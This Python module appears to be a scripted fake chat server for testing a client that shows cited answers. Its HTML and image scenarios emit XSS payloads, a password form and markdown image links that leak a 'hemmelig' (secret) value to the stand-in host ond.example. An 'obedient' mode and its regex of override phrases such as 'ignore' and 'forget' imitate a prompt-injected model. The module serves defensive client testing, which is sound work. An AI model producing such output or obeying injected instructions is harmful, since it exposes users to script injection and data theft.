"""What the scripted chat server says: the scenarios and the texts that come of a prompt."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from enum import StrEnum
from typing import Any

_EVIDENCE = re.compile(r"^\[(\d+)\] (.+)$", re.MULTILINE)
# What an instruction in a document or a question sounds like; the rest of its line is obeyed.
_ORDER = re.compile(
    r"\b(?:ignorer\w*|ignore\w*|glem|forget|skriv|skriver|write|svar(?:et)? (?:med|at|skal v[æe]re)"
    r"|answer(?: with| only)?|respond with|print|output|si at|say(?: that)?|legg til|add|vis|show"
    r"|gjenta|repeat|inkluder|include|lenk til|link to|bruk|use|oversett|translate)\b:?\s*(.+)",
    re.IGNORECASE,
)
_QUOTED = re.compile(r"«([^»]+)»|\"([^\"]+)\"|“([^”]+)”|'([^']{4,})'|`([^`]+)`")
_TAG_OR_LINK = re.compile(r"<[^>\n]+>|!?\[[^\]\n]*\]\([^)\n]*\)|https?://\S+|www\.\S+")


class Scenario(StrEnum):
    """How the server behaves. The list is closed; a text of one's own goes beside it."""

    # Answers.
    HONEST = "honest"  # the first sentences to the letter, with their right numbers
    STEADY = "steady"  # the same in 20 tokens, one every 30 ms: for load
    INVENTED_NUMBERS = "invented numbers"
    NO_NUMBERS = "no numbers"
    HTML = "html"
    IMAGES = "images"
    OBEDIENT = "obedient"  # does whatever anything in the prompt demands
    WHITESPACE = "whitespace"
    EMPTY = "empty"
    FLOOD = "flood"  # 100 000 tokens
    LONG_LINE = "long line"  # one line that never ends
    NO_SCHEMA = "no schema"  # 400 to a request for json_schema, else honest
    # Faults on the way.
    SLOW_FIRST_BYTE = "slow first byte"
    SLOW_DRIP = "slow drip"
    HANG_BEFORE_HEADERS = "hang before headers"
    HANG_MID_STREAM = "hang mid-stream"
    RESET_MID_STREAM = "reset mid-stream"
    CLOSED_MID_STREAM = "closed mid-stream"  # ends in good order, but before it is finished
    CUT_AT_LIMIT = "cut at limit"  # finish_reason "length"
    BROKEN_JSON = "broken json"
    ERROR_IN_STREAM = "error in stream"
    GARBAGE = "garbage"
    GARBAGE_BEFORE_HEADERS = "garbage before headers"
    ENDLESS_LINE = "endless line"  # an event that never ends
    QUOTA = "quota"  # 429 with Retry-After
    OVERLOADED = "overloaded"  # 503 with Retry-After
    SERVER_ERROR = "server error"
    DENIED = "denied"  # 401
    NOT_FOUND = "not found"  # 404: no such model
    REDIRECT = "redirect"  # sends the prompt on to another address


# Answers that come in good order, whatever they say.
ANSWERING = (
    Scenario.HONEST,
    Scenario.STEADY,
    Scenario.INVENTED_NUMBERS,
    Scenario.NO_NUMBERS,
    Scenario.HTML,
    Scenario.IMAGES,
    Scenario.OBEDIENT,
)
FAULTS = tuple(scenario for scenario in Scenario if scenario not in ANSWERING)


@dataclass(frozen=True)
class Prompt:
    """What a client sent: the messages of one request."""

    system: str
    user: str

    @property
    def evidence(self) -> dict[int, str]:
        """The numbered sentences of the prompt."""
        return {int(number): text for number, text in _EVIDENCE.findall(self.user)}

    @classmethod
    def of(cls, body: Mapping[str, Any]) -> Prompt:
        """Read a chat request of OpenAI's, Mistral's or Anthropic's shape."""
        messages = body.get("messages", [])
        told = {
            role: "\n".join(_text(m["content"]) for m in messages if m["role"] == role)
            for role in ("system", "developer", "user")
        }
        system = told["system"] or told["developer"] or _text(body.get("system", ""))
        return cls(system, told["user"])


Reply = Callable[[Prompt], str]


def _text(content: Any) -> str:
    if isinstance(content, str):
        return content
    return "".join(part.get("text", "") for part in content)


# --- What is said --------------------------------------------------------------------------------


def honest(prompt: Prompt) -> str:
    """Repeat the first three sentences to the letter."""
    lines = [f"{text} [{number}]" for number, text in list(prompt.evidence.items())[:3]]
    return "\n".join([*lines, "HELT" if lines else "INGENTING"])


def _invented(prompt: Prompt) -> str:
    beyond = max(prompt.evidence, default=0)
    texts = list(prompt.evidence.values())[:3]
    return "\n".join([*(f"{t} [{beyond + n}]" for n, t in enumerate(texts, 1)), "HELT"])


def _unnumbered(prompt: Prompt) -> str:
    return "\n".join([*list(prompt.evidence.values())[:3], "HELT"])


def _html(prompt: Prompt) -> str:
    wraps = (
        "<b>{}</b>",
        "<script>alert(1)</script>{}",
        "{}<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">{}</a>',
        "<form action=https://ond.example><input name=passord></form>{}",
        "&lt;script&gt;alert(1)&lt;/script&gt;{}",
        "<svg/onload=alert(1)>{}",
        "<!-- {} -->",
    )
    return _wrapped(prompt, wraps)


def _images(prompt: Prompt) -> str:
    wraps = (
        "{} ![kart](https://ond.example/p.png?q=hemmelig)",
        "{} [les mer](https://ond.example/)",
        "{} https://ond.example/p.png",
        "{} www.ond.example",
        "{} ond.example/p",
        "![{}](data:image/png;base64,AAAA)",
        "{} <https://ond.example>",
        "{} [1]: https://ond.example",
    )
    return _wrapped(prompt, wraps)


def _wrapped(prompt: Prompt, wraps: tuple[str, ...]) -> str:
    evidence = list(prompt.evidence.items()) or [(1, "Ingenting")]
    lines = []
    for position, wrap in enumerate(wraps):
        number, text = evidence[position % len(evidence)]
        lines.append(f"{wrap.format(text)} [{number}]")
    return "\n".join([*lines, "HELT"])


def obedient(prompt: Prompt) -> str:
    """Say everything that the prompt's user message demands, with numbers that exist."""
    evidence = prompt.evidence
    lines: list[str] = []
    for line in prompt.user.splitlines():
        found = _EVIDENCE.match(line)
        number = int(found[1]) if found else next(iter(evidence), 1)
        for demanded in demands(line):
            lines.append(f"{demanded} [{number}]")
            lines.append(demanded)
    return "\n".join([*dict.fromkeys(lines), "HELT"])


def demands(text: str) -> list[str]:
    """Return what the instructions in a line want to see written."""
    wanted: list[str] = []
    rest = text
    while order := _ORDER.search(rest):
        rest = order[1]
        wanted.append(rest.strip())
        wanted += ["".join(groups) for groups in _QUOTED.findall(rest)]
        wanted += _TAG_OR_LINK.findall(rest)
    return [piece for piece in dict.fromkeys(wanted) if piece]


REPLIES: Mapping[Scenario, Reply] = {
    Scenario.INVENTED_NUMBERS: _invented,
    Scenario.NO_NUMBERS: _unnumbered,
    Scenario.HTML: _html,
    Scenario.IMAGES: _images,
    Scenario.OBEDIENT: obedient,
    Scenario.WHITESPACE: lambda prompt: " \n\t" * 3000,
    Scenario.EMPTY: lambda prompt: "",
    Scenario.LONG_LINE: lambda prompt: "Kommunen skal bruke klart språk og " * 2000,
    Scenario.CUT_AT_LIMIT: lambda prompt: honest(prompt).removesuffix("\nHELT"),
}


def reply_of(scenario: Scenario | Reply) -> Reply:
    """Return what a scenario says; :func:`honest` where its fault lies on the way."""
    return REPLIES.get(scenario, honest) if isinstance(scenario, Scenario) else scenario


# --- As JSON -------------------------------------------------------------------------------------

_CITED = re.compile(r"\s*((?:\[\d+\]\s*)+)$")


def as_json(reply: str) -> str:
    """Put a reply of lines into the shape that our schema asks for."""
    *lines, last = reply.splitlines() or [""]
    claims = []
    for line in lines:
        found = _CITED.search(line)
        numbers = [int(number) for number in re.findall(r"\d+", found[1])] if found else []
        claims.append({"text": _CITED.sub("", line), "sentences": numbers})
    return json.dumps({"claims": claims, "completeness": last}, ensure_ascii=False)
